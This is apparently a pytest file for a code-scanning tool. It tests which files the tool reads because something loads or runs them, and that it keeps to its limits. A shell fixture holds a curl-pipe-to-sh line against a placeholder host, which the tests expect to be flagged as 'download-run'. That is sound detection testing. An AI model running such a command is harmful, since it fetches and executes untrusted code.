"""Code is read where something loads or starts it, wherever it lies and whatever it is called; all else stays aside."""

from __future__ import annotations

import json
from dataclasses import replace

import pytest

from driftseal.limits import DEFAULT_LIMITS, Limits
from driftseal.observe import program
from growth import grows_linearly

LOADED = "const fs = require('fs');\nfs.writeFileSync('/tmp/x', 'y');\n"
PYTHON = "import os\nos.system('true')\n"
SHELL = "curl -s https://h.example/x \\\n  | sh\n# a note\nexport A=1\n"


def modules(files: dict[str, str]) -> dict[str, str]:
    """The language of every file that is read."""
    data = {path: text.encode() for path, text in files.items()}
    members = [(path, text) for path, text in data.items() if program.is_read(path)]
    read = program.read(members, DEFAULT_LIMITS, texts=data.get)
    return {path: module.language for path, module in read.project.modules.items()}


def package(**about: object) -> str:
    return json.dumps({"name": "x", **about})


@pytest.mark.parametrize(
    ("file", "files"),
    [
        ("bin/server", {"package.json": package(bin={"x": "./bin/server"})}),
        ("bin/server", {"package.json": package(bin="bin/server")}),
        ("lib/data.txt", {"package.json": package(main="./lib/data.txt")}),
        ("tests/all.js", {"package.json": package(exports={".": {"require": "./tests/all"}})}),
        ("setup", {"package.json": package(scripts={"postinstall": "node ./setup"})}),
        ("lib/data.dat", {"index.js": "require('./lib/data.dat');"}),
        ("vendor/util.js", {"src/index.js": "import { a } from '../vendor/util.js';"}),
        ("tests/deep/b.js", {"index.js": "require('./tests/a');", "tests/a.js": "require('./deep/b');"}),
        ("tests/util.js", {"index.js": "require(path.join(__dirname, 'tests', 'util.js'));"}),
        ("tests/util.js", {"index.js": "spawn(process.execPath, [path.join(__dirname, 'tests', 'util.js')]);"}),
        ("helper.bin", {"index.js": "const { fork } = require('child_process');\nfork('./helper.bin');"}),
        (
            "node_modules/a/i.js",
            {"package.json": package(bundledDependencies=["a"]), "node_modules/a/package.json": '{"main": "i"}'},
        ),
    ],
)
def test_a_script_that_is_loaded_is_read(file: str, files: dict[str, str]) -> None:
    assert modules({"server.js": "", **files, file: LOADED})[file] == "javascript"


@pytest.mark.parametrize(
    ("file", "source"),
    [
        ("docs/helper.py", "from docs import helper"),
        ("docs/helper.py", "import docs.helper"),
        ("tests/helper.py", "from .tests.helper import run"),
        ("docs/helper.py", "importlib.import_module('docs.helper')"),
        ("vendor/helper.py", "sys.path.insert(0, os.path.join(os.path.dirname(__file__), 'vendor'))\nimport helper"),
        ("data.txt", "exec(open('data.txt').read())"),
        ("data.txt", "exec(compile((Path(__file__).parent / 'data.txt').read_text(), 'x', 'exec'))"),
        ("part.dat", "runpy.run_path('part.dat')"),
        ("part.dat", "subprocess.Popen([sys.executable, 'part.dat'])"),
    ],
)
def test_python_that_is_loaded_is_read(file: str, source: str) -> None:
    assert modules({"server.py": source, file: PYTHON})[file] == "python"


@pytest.mark.parametrize(
    ("file", "files"),
    [
        ("setup.sh", {"package.json": package(scripts={"postinstall": "sh ./setup.sh"})}),
        ("scripts/prepare", {"server.py": "subprocess.run(['bash', 'scripts/prepare'])"}),
        ("scripts/prepare.sh", {"server.py": "os.system('scripts/prepare.sh --quiet')"}),
    ],
)
def test_a_script_of_the_shell_that_is_run_is_read_line_by_line(file: str, files: dict[str, str]) -> None:
    data = {path: text.encode() for path, text in {**files, file: SHELL}.items()}
    members = [(path, text) for path, text in data.items() if program.is_read(path)]
    read = program.read(members, DEFAULT_LIMITS, texts=data.get)
    assert ("download-run", file, 1) in {(fact.name, fact.path, fact.line) for fact in read.facts.facts}


def test_a_program_says_by_its_first_line_what_it_is_written_in() -> None:
    files = {"package.json": package(bin={"a": "bin/a", "b": "bin/b"}), "bin/a": f"#!/usr/bin/env python3\n{PYTHON}"}
    assert modules({**files, "bin/b": f"#!/bin/sh\n{SHELL}", "i.js": ""})["bin/a"] == "python"


@pytest.mark.parametrize(
    "files",
    [
        {"index.js": "const a = 1;", "tests/util.js": LOADED},
        {"index.js": "fs.readFileSync('./data.txt'); run('x');", "data.txt": "a"},
        {"index.js": "import a from './data.json';", "data.json": "{}"},
        {"index.js": "require('./x.bin');", "x.bin": "\0\0\0"},
        {"server.py": "subprocess.run(['git', 'log', 'notes.txt'])", "notes.txt": "a"},
        {"server.py": "from tests import missing"},
        {"package.json": package(main="../outside.js"), "index.js": ""},
    ],
)
def test_what_nothing_runs_stays_aside(files: dict[str, str]) -> None:
    assert len(modules(files)) == 1


def reading(files: dict[str, str], limits: Limits = DEFAULT_LIMITS) -> program.Program:
    data = {path: text.encode() for path, text in files.items()}
    members = [(path, text) for path, text in data.items() if program.is_read(path)]
    return program.read(members, limits, texts=data.get)


@pytest.mark.parametrize(
    "files",
    [
        {f"tests/f{n}.js": f"require('./f{n + 1}');" for n in range(500)},
        {f"tests/f{n}.js": "" for n in range(500)}
        | {"tests/f0.js": "".join(f"require('./f{n}');" for n in range(500))},
    ],
)
def test_more_files_than_are_reached_are_told_as_unread(files: dict[str, str]) -> None:
    read = reading({"index.js": "require('./tests/f0');", **files})
    assert len(read.project.modules) <= 65
    assert [one.why for one in read.unread] == ["the code loads or runs more files than are looked for"]


def test_a_file_that_is_reached_and_not_read_whole_is_told() -> None:
    read = reading(
        {"index.js": "require('./tests/f');", "tests/f.js": "f(1);" * 2000}, replace(DEFAULT_LIMITS, code_nodes=300)
    )
    assert [(one.path, "limits.code_nodes" in one.why) for one in read.unread] == [("tests/f.js", True)]


def test_files_that_are_reached_share_the_bytes_that_code_may_have() -> None:
    read = reading({"index.js": "require('./tests/f');", "tests/f.js": LOADED}, replace(DEFAULT_LIMITS, code_bytes=40))
    assert [*read.project.modules] == ["index.js"]
    assert [one.path for one in read.unread] == ["tests/f.js"]


@pytest.mark.parametrize("unit", ["run(", "run(join(", "exec('a.b' ", "sys.path.append(", "import a.b\n"])
def test_source_made_to_look_like_calls_takes_linear_time(unit: str) -> None:
    def look(count: int) -> None:
        program.read([("server.py", (unit * count).encode())], DEFAULT_LIMITS, texts=lambda _: None)

    assert grows_linearly(look, 400)
